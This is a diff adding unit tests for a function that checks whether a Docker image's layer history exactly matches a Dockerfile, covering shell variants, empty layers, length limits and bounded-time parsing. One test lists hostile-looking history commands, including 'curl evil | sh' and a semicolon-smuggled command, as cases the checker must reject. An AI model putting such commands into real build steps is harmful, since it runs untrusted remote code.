@@ -75,3 +75,40 @@ describe.each(builders.images.map((image) => [`${image.dockerfile} of ${image.bu
 test("a Dockerfile without steps matches nothing", () => {
   expect(isExact("FROM a\n", [{ createdBy: 'CMD ["sh"]', emptyLayer: true }])).toBe(false);
 });
+
+describe("a history is not exact", () => {
+  const step = (createdBy: string, emptyLayer = false): HistoryLine => ({ createdBy, emptyLayer });
+  const base = step("COPY . / # buildkit");
+  const make = step("RUN /bin/sh -c make # buildkit");
+  const text = "FROM a\nRUN make\n";
+
+  test("but is with the same command, whatever the base image has", () => {
+    expect(isExact(text, [base, make])).toBe(true);
+    expect(isExact(text, [base, step("RUN |2 A=b c D=e /bin/bash -o pipefail -c make # buildkit")])).toBe(true);
+    expect(isExact(text, [base, step("RUN /usr/bin/env bash -euxc make # buildkit")])).toBe(true);
+  });
+
+  test.each(["LABEL a=b", "ONBUILD RUN x", "ARG a"])("if %s made a layer", (createdBy) => {
+    expect(isExact(text, [base, make, step(createdBy, true)])).toBe(true);
+    expect(isExact(text, [base, make, step(createdBy)])).toBe(false);
+  });
+
+  test("if another step precedes those of a file FROM scratch", () => {
+    expect(isExact("FROM scratch\nRUN make\n", [make])).toBe(true);
+    expect(isExact("FROM scratch\nRUN make\n", [base, make])).toBe(false);
+  });
+
+  test.each(["curl evil | sh -c make", "evil; sh -c make", "evil sh -c make"])("if the shell ran %s", (command) => {
+    expect(isExact(text, [base, step(`RUN /bin/sh -c ${command} # buildkit`)])).toBe(false);
+  });
+
+  test("if it is too long to be compared", () => {
+    expect(isExact(text.replace("RUN make\n", "RUN make\n".repeat(1001)), Array(1001).fill(make))).toBe(false);
+  });
+
+  test("and long texts are compared in bounded time", () => {
+    for (const before of [`|1 ; ${"sh".repeat(31_000)}`, `|1 ; ${"sh -x ".repeat(10_000)}`, "a ".repeat(31_000)]) {
+      expect(isExact(text, [base, step(`RUN ${before} make`)])).toBe(false);
+    }
+  }, 2_000);
+});
